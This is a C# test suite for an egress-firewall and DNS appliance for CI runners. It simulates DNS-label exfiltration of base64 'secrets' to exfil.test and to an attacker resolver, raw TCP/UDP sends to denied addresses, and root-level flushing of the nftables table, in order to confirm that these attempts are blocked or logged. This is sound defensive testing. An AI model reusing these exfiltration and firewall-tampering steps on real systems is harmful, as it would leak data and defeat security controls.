using System.Text.Json;
using HardenRunner.EndToEnd.Tests.Support;
using HardenRunner.Lab;
using TestLab = HardenRunner.Lab.Lab;

namespace HardenRunner.EndToEnd.Tests;

/// <summary>
/// Enforcement core I in the lab: the DNS server and the nftables firewall, in block and audit mode, with real
/// clients (dig, python3, bash) in the runner namespace. The proof is on the internet side: the lab's logs.
/// </summary>
public sealed class EnforcementCoreTests
{
    internal static readonly TimeSpan ClientTimeout = TimeSpan.FromSeconds(15);
    internal static readonly TimeSpan Quiet = TimeSpan.FromSeconds(2);

    // exfil.test = 198.51.100.20 / 2001:db8:100::20 is denied; allowed.test is allowed on 443 and 22;
    // github.com's addresses (198.51.100.31, 2001:db8:100::31) are allowed by CIDR on port 9000 only.
    internal const string Policy = """
        egress-policy: block
        allowed-endpoints:
          - allowed.test:443
          - allowed.test:22
        allowed-cidrs:
          - 198.51.100.31/32:9000
          - "[2001:db8:100::31/128]:9000"
        """;

    internal static string Unique(string prefix) => prefix + Guid.NewGuid().ToString("N")[..10];

    /// <summary>A python3 one-shot: TCP connect + send, or UDP send, with a short timeout. Exit 0 if the send went out on an established flow.</summary>
    internal static Task<LabProcessResult> SendAsync(TestLab lab, string proto, string address, int port, string payload, IDictionary<string, string>? environment = null)
    {
        const string script = """
            import socket, sys
            proto, addr, port, payload = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4].encode()
            fam = socket.AF_INET6 if ':' in addr else socket.AF_INET
            if proto == 'tcp':
                s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
                s.connect((addr, port)); s.sendall(payload); s.close()
            else:
                s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(3)
                s.sendto(payload, (addr, port))
                try:
                    s.recvfrom(2048)
                except socket.timeout:
                    sys.exit(3)
            """;
        return lab.RunInRunnerAsync("python3", ["-c", script, proto, address, port.ToString(System.Globalization.CultureInfo.InvariantCulture), payload], ClientTimeout, environment);
    }

    internal static Task<LabProcessResult> DigAsync(TestLab lab, params string[] args) =>
        lab.RunInRunnerAsync("dig", ["+time=2", "+tries=1", .. args], ClientTimeout);

    internal static bool IsEvent(JsonElement e, string kind, string? host, string? address, int port, string decision, string action) =>
        e.GetProperty("type").GetString() == "network"
        && e.GetProperty("kind").GetString() == kind
        && (host is null || string.Equals(e.GetProperty("host").GetString(), host, StringComparison.OrdinalIgnoreCase))
        && (address is null || e.GetProperty("address").GetString() == address)
        && (port < 0 || e.GetProperty("port").GetInt32() == port)
        && e.GetProperty("decision").GetString() == decision
        && e.GetProperty("action").GetString() == action;

    [SkippableFact]
    public async Task Block_DnsExfiltration_NeverReachesAnyUpstream_UdpTcpAndDirectResolvers()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);

        // data in labels: base64 of a "secret", under a denied domain
        var viaSystem = "c2VjcmV0LXN5cw." + Unique("a") + ".exfil.test";
        var viaTcp = "c2VjcmV0LXRjcA." + Unique("b") + ".exfil.test";
        var direct = "c2VjcmV0LWRpcg." + Unique("c") + ".exfil.test";
        var rogue = "c2VjcmV0LXJvZw." + Unique("d") + ".exfil.test";
        var v6 = "c2VjcmV0LXY2." + Unique("e") + ".exfil.test";

        var r1 = await DigAsync(lab, viaSystem, "TXT");
        Assert.Contains("status: NXDOMAIN", r1.StandardOutput, StringComparison.Ordinal);
        var r2 = await DigAsync(lab, "+tcp", viaTcp, "A");
        Assert.Contains("status: NXDOMAIN", r2.StandardOutput, StringComparison.Ordinal);
        var r3 = await DigAsync(lab, "@" + lab.DnsV4, direct, "A");          // straight at the real upstream
        Assert.Contains("status: NXDOMAIN", r3.StandardOutput, StringComparison.Ordinal);
        var r4 = await DigAsync(lab, "@" + lab.Attacker.V4, rogue, "A");    // an attacker's own resolver
        Assert.Contains("status: NXDOMAIN", r4.StandardOutput, StringComparison.Ordinal);
        var r5 = await DigAsync(lab, "@" + lab.DnsV6, "+tcp", v6, "AAAA");
        Assert.Contains("status: NXDOMAIN", r5.StandardOutput, StringComparison.Ordinal);

        Assert.True(await lab.DnsLog.NoneWithinAsync(q => q.Name.Contains("c2VjcmV0", StringComparison.Ordinal), Quiet), "a denied name reached a lab resolver");
        await appliance.WaitForEventAsync(e => IsEvent(e, "dns", viaSystem, null, -1, "deny", "blocked"), Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "dns", rogue, null, -1, "deny", "blocked"), Quiet);

        // an allowed name still resolves, through the appliance, to the lab's address
        var ok = await DigAsync(lab, "+short", "allowed.test", "A");
        Assert.Equal("198.51.100.10", ok.StandardOutput.Trim());
        await lab.DnsLog.WaitForAsync(q => q.Name == "allowed.test" && q.Server == "resolver", Quiet);
    }

    [SkippableFact]
    public async Task Block_RawTcpUdpAndIpv6ToDeniedAddresses_ReceiveNothing_AndAreRecorded()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);

        var tcp4 = Unique("tcp4-");
        var udp4 = Unique("udp4-");
        var tcp6 = Unique("tcp6-");
        var udp6 = Unique("udp6-");
        var quic = Unique("quic-");
        Assert.False((await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp4)).Succeeded);
        await SendAsync(lab, "udp", "198.51.100.20", 9001, udp4);
        Assert.False((await SendAsync(lab, "tcp", "2001:db8:100::20", 9000, tcp6)).Succeeded);
        await SendAsync(lab, "udp", "2001:db8:100::20", 9001, udp6);
        await SendAsync(lab, "udp", "198.51.100.10", 443, quic);  // QUIC to an allowed host: UDP 443 stays closed

        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(tcp4, StringComparison.Ordinal) || r.Preview.Contains(tcp6, StringComparison.Ordinal), Quiet));
        Assert.True(await lab.UdpLog.NoneWithinAsync(r => r.Preview.Contains(udp4, StringComparison.Ordinal) || r.Preview.Contains(udp6, StringComparison.Ordinal) || r.Preview.Contains(quic, StringComparison.Ordinal), Quiet));

        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.20", 9000, "deny", "blocked"), Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "udp", null, "198.51.100.20", 9001, "deny", "blocked"), Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "2001:db8:100::20", 9000, "deny", "blocked"), Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "udp", null, "198.51.100.10", 443, "deny", "blocked"), Quiet);
    }

    [SkippableFact]
    public async Task Block_AllowedNameOnPort22_ConnectsByResolvedAddresses_OnlyOnGrantedPorts()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);

        var before = Unique("before-");
        Assert.False((await SendAsync(lab, "tcp", "198.51.100.10", 22, before)).Succeeded, "reachable before the name was resolved");

        Assert.Equal("198.51.100.10", (await DigAsync(lab, "+short", "allowed.test", "A")).StandardOutput.Trim());
        Assert.Equal("2001:db8:100::10", (await DigAsync(lab, "+short", "allowed.test", "AAAA")).StandardOutput.Trim());

        var v4 = Unique("ssh4-");
        var v6 = Unique("ssh6-");
        var notGranted = Unique("p9000-");
        var r4 = await SendAsync(lab, "tcp", "198.51.100.10", 22, v4);
        Assert.True(r4.Succeeded, r4.ToString());
        var r6 = await SendAsync(lab, "tcp", "2001:db8:100::10", 22, v6);
        Assert.True(r6.Succeeded, r6.ToString());
        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(v4, StringComparison.Ordinal), Quiet);
        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(v6, StringComparison.Ordinal), Quiet);

        Assert.False((await SendAsync(lab, "tcp", "198.51.100.10", 9000, notGranted)).Succeeded);
        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(notGranted, StringComparison.Ordinal) || r.Preview.Contains(before, StringComparison.Ordinal), Quiet));
    }

    [SkippableFact]
    public async Task Block_AllowedCidrs_PassOnTheirPortOnly_IPv4AndIPv6()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);

        var v4 = Unique("cidr4-");
        var v6 = Unique("cidr6-");
        var other = Unique("cidr22-");
        Assert.True((await SendAsync(lab, "tcp", "198.51.100.31", 9000, v4)).Succeeded);
        Assert.True((await SendAsync(lab, "tcp", "2001:db8:100::31", 9000, v6)).Succeeded);
        Assert.False((await SendAsync(lab, "tcp", "198.51.100.31", 22, other)).Succeeded);
        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(v4, StringComparison.Ordinal), Quiet);
        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(v6, StringComparison.Ordinal), Quiet);
        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(other, StringComparison.Ordinal), Quiet));
    }

    // Audit mode: the attempts of the block tests above, one for one. Each must pass — the lab's internet side
    // receives it — and be in events.jsonl as decision deny, action passed, with its kind, host or address, and port.
    internal static string AuditPolicy => Policy.Replace("egress-policy: block", "egress-policy: audit", StringComparison.Ordinal);

    [SkippableFact]
    public async Task Audit_DnsExfiltration_ReachesTheUpstream_AndIsRecorded_UdpTcpAndDirectResolvers()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, AuditPolicy);

        var viaSystem = "c2VjcmV0LXN5cw." + Unique("a") + ".exfil.test";
        var viaTcp = "c2VjcmV0LXRjcA." + Unique("b") + ".exfil.test";
        var direct = "c2VjcmV0LWRpcg." + Unique("c") + ".exfil.test";
        var rogue = "c2VjcmV0LXJvZw." + Unique("d") + ".exfil.test";
        var v6 = "c2VjcmV0LXY2." + Unique("e") + ".exfil.test";

        // the zone has A and AAAA for *.exfil.test and no TXT: a TXT query is answered NOERROR without records
        var r1 = await DigAsync(lab, viaSystem, "TXT");
        Assert.Contains("status: NOERROR", r1.StandardOutput, StringComparison.Ordinal);
        Assert.Equal("198.51.100.20", (await DigAsync(lab, "+short", "+tcp", viaTcp, "A")).StandardOutput.Trim());
        Assert.Equal("198.51.100.20", (await DigAsync(lab, "+short", "@" + lab.DnsV4, direct, "A")).StandardOutput.Trim());
        Assert.Equal("198.51.100.20", (await DigAsync(lab, "+short", "@" + lab.Attacker.V4, rogue, "A")).StandardOutput.Trim());
        Assert.Equal("2001:db8:100::20", (await DigAsync(lab, "+short", "@" + lab.DnsV6, "+tcp", v6, "AAAA")).StandardOutput.Trim());

        // each name reached the internet side with its type; the appliance forwards every query to its upstream
        // (the lab resolver), whichever resolver the client addressed: the firewall redirects all port 53 to it
        await lab.DnsLog.WaitForAsync(q => q.Name == viaSystem && q.Type == "TXT" && q.Server == "resolver", Quiet);
        await lab.DnsLog.WaitForAsync(q => q.Name == viaTcp && q.Type == "A" && q.Server == "resolver", Quiet);
        await lab.DnsLog.WaitForAsync(q => q.Name == direct && q.Type == "A" && q.Server == "resolver", Quiet);
        await lab.DnsLog.WaitForAsync(q => q.Name == rogue && q.Type == "A" && q.Server == "resolver", Quiet);
        await lab.DnsLog.WaitForAsync(q => q.Name == v6 && q.Type == "AAAA" && q.Server == "resolver", Quiet);

        foreach (var name in new[] { viaSystem, viaTcp, direct, rogue, v6 })
        {
            await appliance.WaitForEventAsync(e => IsEvent(e, "dns", name, null, 53, "deny", "passed"), Quiet);
        }

        AssertNothingBlocked(appliance);
    }

    [SkippableFact]
    public async Task Audit_RawTcpUdpAndIpv6ToDeniedAddresses_Arrive_AndAreRecorded()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, AuditPolicy);

        var tcp4 = Unique("atcp4-");
        var udp4 = Unique("audp4-");
        var tcp6 = Unique("atcp6-");
        var udp6 = Unique("audp6-");
        var quic = Unique("aquic-");
        var r1 = await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp4);
        Assert.True(r1.Succeeded, r1.ToString());
        var r2 = await SendAsync(lab, "udp", "198.51.100.20", 9001, udp4);
        Assert.True(r2.Succeeded, r2.ToString());
        var r3 = await SendAsync(lab, "tcp", "2001:db8:100::20", 9000, tcp6);
        Assert.True(r3.Succeeded, r3.ToString());
        var r4 = await SendAsync(lab, "udp", "2001:db8:100::20", 9001, udp6);
        Assert.True(r4.Succeeded, r4.ToString());
        var r5 = await SendAsync(lab, "udp", "198.51.100.10", 443, quic);  // QUIC: UDP 443 is open in audit mode
        Assert.True(r5.Succeeded, r5.ToString());

        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(tcp4, StringComparison.Ordinal) && r.LocalAddress == "198.51.100.20" && r.LocalPort == 9000, Quiet);
        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(tcp6, StringComparison.Ordinal) && r.LocalAddress == "2001:db8:100::20" && r.LocalPort == 9000, Quiet);
        await lab.UdpLog.WaitForAsync(r => r.Preview.Contains(udp4, StringComparison.Ordinal) && r.LocalAddress == "198.51.100.20" && r.LocalPort == 9001, Quiet);
        await lab.UdpLog.WaitForAsync(r => r.Preview.Contains(udp6, StringComparison.Ordinal) && r.LocalAddress == "2001:db8:100::20" && r.LocalPort == 9001, Quiet);
        await lab.UdpLog.WaitForAsync(r => r.Preview.Contains(quic, StringComparison.Ordinal) && r.LocalAddress == "198.51.100.10" && r.LocalPort == 443, Quiet);

        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.20", 9000, "deny", "passed"), Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "udp", null, "198.51.100.20", 9001, "deny", "passed"), Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "2001:db8:100::20", 9000, "deny", "passed"), Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "udp", null, "2001:db8:100::20", 9001, "deny", "passed"), Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "udp", null, "198.51.100.10", 443, "deny", "passed"), Quiet);
        AssertNothingBlocked(appliance);
    }

    [SkippableFact]
    public async Task Audit_AllowedNameAndCidrs_OnPortsNotGranted_Arrive_AndAreRecorded()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, AuditPolicy);

        // port 22 of allowed.test before the name was resolved: not in the allow sets yet
        var before = Unique("abefore-");
        var r1 = await SendAsync(lab, "tcp", "198.51.100.10", 22, before);
        Assert.True(r1.Succeeded, r1.ToString());
        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(before, StringComparison.Ordinal) && r.LocalPort == 22, Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.10", 22, "deny", "passed"), Quiet);

        // resolved: port 22 is granted (allowed, so no deny event); 9000 is not, v4 and v6
        Assert.Equal("198.51.100.10", (await DigAsync(lab, "+short", "allowed.test", "A")).StandardOutput.Trim());
        Assert.Equal("2001:db8:100::10", (await DigAsync(lab, "+short", "allowed.test", "AAAA")).StandardOutput.Trim());
        await appliance.WaitForEventAsync(e => IsEvent(e, "dns", "allowed.test", null, 53, "allow", "passed"), Quiet);
        var granted6 = Unique("assh6-");
        var notGranted4 = Unique("ap9000v4-");
        var notGranted6 = Unique("ap9000v6-");
        var r2 = await SendAsync(lab, "tcp", "2001:db8:100::10", 22, granted6);
        Assert.True(r2.Succeeded, r2.ToString());
        var r3 = await SendAsync(lab, "tcp", "198.51.100.10", 9000, notGranted4);
        Assert.True(r3.Succeeded, r3.ToString());
        var r4 = await SendAsync(lab, "tcp", "2001:db8:100::10", 9000, notGranted6);
        Assert.True(r4.Succeeded, r4.ToString());
        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(granted6, StringComparison.Ordinal), Quiet);
        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(notGranted4, StringComparison.Ordinal) && r.LocalPort == 9000, Quiet);
        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(notGranted6, StringComparison.Ordinal) && r.LocalPort == 9000, Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.10", 9000, "deny", "passed"), Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "2001:db8:100::10", 9000, "deny", "passed"), Quiet);

        // allowed-cidrs: github.com's addresses on a port other than 9000
        var cidr = Unique("acidr22-");
        var r5 = await SendAsync(lab, "tcp", "198.51.100.31", 22, cidr);
        Assert.True(r5.Succeeded, r5.ToString());
        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(cidr, StringComparison.Ordinal) && r.LocalAddress == "198.51.100.31", Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.31", 22, "deny", "passed"), Quiet);

        // what the policy allows is not recorded as denied
        Assert.DoesNotContain(appliance.Events(), e => IsEvent(e, "tcp", null, "2001:db8:100::10", 22, "deny", "passed"));
        AssertNothingBlocked(appliance);
    }

    [SkippableFact]
    public async Task Audit_TableTampering_IsDetectedAndRepaired_DeniedFlowsAreRecordedAgain()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, AuditPolicy);

        // in audit mode an emptied table lets everything through unrecorded: the appliance must notice and re-apply it
        var flush = await lab.RunInRunnerAsync("nft", ["flush", "table", "inet", "harden_runner"], ClientTimeout);
        Assert.True(flush.Succeeded, flush.ToString());
        var detection = await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "detection" && e.GetProperty("detection").GetString() == "firewall-tampered", TimeSpan.FromSeconds(20));
        Assert.Equal("true", detection.GetProperty("evidence").GetProperty("repaired").GetString());

        // repaired: a denied flow passes and is recorded again (the logging rules are back)
        var tcp = Unique("aafter-flush-");
        var sent = await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp);
        Assert.True(sent.Succeeded, sent.ToString());
        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(tcp, StringComparison.Ordinal), Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.20", 9000, "deny", "passed"), Quiet);
        AssertNothingBlocked(appliance);
    }

    private static void AssertNothingBlocked(ApplianceProcess appliance) =>
        Assert.DoesNotContain(appliance.Events(), e => e.GetProperty("type").GetString() == "network" && e.GetProperty("action").GetString() == "blocked");

    [SkippableFact]
    public async Task Block_KillMinus9_EgressStaysClosed()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);
        appliance.Process.Kill();
        await appliance.Process.WaitAsync(TimeSpan.FromSeconds(10));

        var name = "c2VjcmV0LWtpbGw." + Unique("k") + ".exfil.test";
        await DigAsync(lab, name, "A");
        await DigAsync(lab, "@" + lab.DnsV4, name, "TXT");
        var tcp = Unique("k9tcp-");
        var udp = Unique("k9udp-");
        var v6 = Unique("k9tcp6-");
        Assert.False((await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp)).Succeeded);
        await SendAsync(lab, "udp", "198.51.100.20", 9001, udp);
        Assert.False((await SendAsync(lab, "tcp", "2001:db8:100::20", 9000, v6)).Succeeded);

        Assert.True(await lab.DnsLog.NoneWithinAsync(q => q.Name.Contains("c2VjcmV0LWtpbGw", StringComparison.Ordinal), Quiet));
        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(tcp, StringComparison.Ordinal) || r.Preview.Contains(v6, StringComparison.Ordinal), Quiet));
        Assert.True(await lab.UdpLog.NoneWithinAsync(r => r.Preview.Contains(udp, StringComparison.Ordinal), Quiet));
    }

    [SkippableFact]
    public async Task Block_TableTampering_IsDetectedAndRepaired()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);

        // a job step (as root) empties the appliance's chains
        var flush = await lab.RunInRunnerAsync("nft", ["flush", "table", "inet", "harden_runner"], ClientTimeout);
        Assert.True(flush.Succeeded, flush.ToString());
        await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "detection" && e.GetProperty("detection").GetString() == "firewall-tampered", TimeSpan.FromSeconds(20));

        // repaired: the rules are back and exfiltration is blocked again
        var tcp = Unique("after-flush-");
        Assert.False((await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp)).Succeeded);
        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(tcp, StringComparison.Ordinal), Quiet));

        // and deleting the whole table is caught too
        var delete = await lab.RunInRunnerAsync("nft", ["delete", "table", "inet", "harden_runner"], ClientTimeout);
        Assert.True(delete.Succeeded, delete.ToString());
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(20);
        while (true)
        {
            var list = await lab.RunInRunnerAsync("nft", ["list", "table", "inet", "harden_runner"], ClientTimeout);
            if (list.Succeeded)
            {
                break;
            }

            Assert.True(DateTime.UtcNow < deadline, "the table was not re-applied");
            await Task.Delay(250);
        }

        Assert.True(appliance.Events().Count(e => e.GetProperty("type").GetString() == "detection") >= 2);
    }

    [SkippableFact]
    public async Task Stop_RemovesTheTable_RestoresResolvConf_WritesSummary()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        var before = await lab.RunInRunnerAsync("cat", ["/etc/resolv.conf"], ClientTimeout);
        await using var appliance = await ApplianceProcess.StartAsync(lab, Policy);

        var during = await lab.RunInRunnerAsync("cat", ["/etc/resolv.conf"], ClientTimeout);
        Assert.Contains("nameserver 127.0.0.1", during.StandardOutput, StringComparison.Ordinal);
        await DigAsync(lab, "exfil.test", "A");

        var stopped = await appliance.StopAsync();
        Assert.True(stopped.ExitCode == 0, stopped.ToString());
        var tables = await lab.RunInRunnerAsync("nft", ["list", "tables"], ClientTimeout);
        Assert.DoesNotContain("harden_runner", tables.StandardOutput, StringComparison.Ordinal);
        var after = await lab.RunInRunnerAsync("cat", ["/etc/resolv.conf"], ClientTimeout);
        Assert.Equal(before.StandardOutput, after.StandardOutput);
        var summary = await File.ReadAllTextAsync(Path.Combine(appliance.StateDir, "summary.md"));
        Assert.StartsWith("## HardenRunner: block mode", summary, StringComparison.Ordinal);
        Assert.Contains("| exfil.test | 53 | **blocked** |", summary, StringComparison.Ordinal);
        Assert.Contains("exfil.test", await File.ReadAllTextAsync(Path.Combine(appliance.StateDir, "report.html")), StringComparison.Ordinal);

        // the run is in the store: the JSON report (DESIGN §5) was written at stop and 'report' renders it again
        Assert.True(File.Exists(Path.Combine(appliance.StateDir, "report.json")));
        var report = await lab.RunInRunnerAsync(HardenRunnerBinary.FileName, HardenRunnerBinary.Args(["report", "--format", "json", "--state-dir", appliance.StateDir]), ClientTimeout);
        Assert.True(report.Succeeded, report.ToString());
        using var json = JsonDocument.Parse(report.StandardOutput);
        Assert.Equal(1, json.RootElement.GetProperty("schemaVersion").GetInt32());
        Assert.Equal("block", json.RootElement.GetProperty("run").GetProperty("egressPolicy").GetString());
        Assert.Contains(json.RootElement.GetProperty("network").EnumerateArray(), n => n.GetProperty("kind").GetString() == "dns" && n.GetProperty("host").GetString() == "exfil.test" && n.GetProperty("action").GetString() == "blocked");
    }

    [SkippableFact]
    public async Task Run_WithNoPolicyFile_IsAuditModeWithNothingAllowed_BlocksNothingAndRecordsEverything()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, null, "--upstream-ca", lab.CaCertificatePath);
        var output = await appliance.WaitForOutputAsync("policy (default)", TimeSpan.FromSeconds(10));
        Assert.Contains("audit mode", output, StringComparison.Ordinal);
        Assert.Contains("policy (default)", output, StringComparison.Ordinal);

        var dig = await DigAsync(lab, "+short", "exfil.test", "A");
        Assert.Equal("198.51.100.20", dig.StandardOutput.Trim());
        var tcp = Unique("default-");
        Assert.True((await SendAsync(lab, "tcp", "198.51.100.20", 9000, tcp)).Succeeded);
        var curl = await lab.RunInRunnerAsync("curl", ["-sS", "--max-time", "10", "https://allowed.test/default"], ClientTimeout);
        Assert.True(curl.Succeeded, curl.ToString());

        await appliance.WaitForEventAsync(e => IsEvent(e, "dns", "exfil.test", null, -1, "deny", "passed"), Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "tcp", null, "198.51.100.20", 9000, "deny", "passed"), Quiet);
        await appliance.WaitForEventAsync(e => IsEvent(e, "https", "allowed.test", null, 443, "deny", "passed"), Quiet);
    }

    [SkippableFact]
    public async Task Run_InvalidPolicy_ExitsTwo_AndChangesNothing()
    {
        // audit mode (block mode leaves egress closed instead: FailClosedStartTests)
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        var policy = Path.Combine(lab.WorkDirectory, "bad.yml");
        await File.WriteAllTextAsync(policy, "egress-policy: audit\nallowed-endpoints: [\"*\"]\n");
        var run = await lab.RunInRunnerAsync(HardenRunnerBinary.FileName, HardenRunnerBinary.Args(["run", "--policy", policy, "--state-dir", Path.Combine(lab.WorkDirectory, "s")]), TimeSpan.FromSeconds(30));
        Assert.Equal(2, run.ExitCode);
        Assert.Contains($"{policy}:2:21: error: a bare '*'", run.StandardError, StringComparison.Ordinal);
        var tables = await lab.RunInRunnerAsync("nft", ["list", "tables"], ClientTimeout);
        Assert.DoesNotContain("harden_runner", tables.StandardOutput, StringComparison.Ordinal);
    }
}
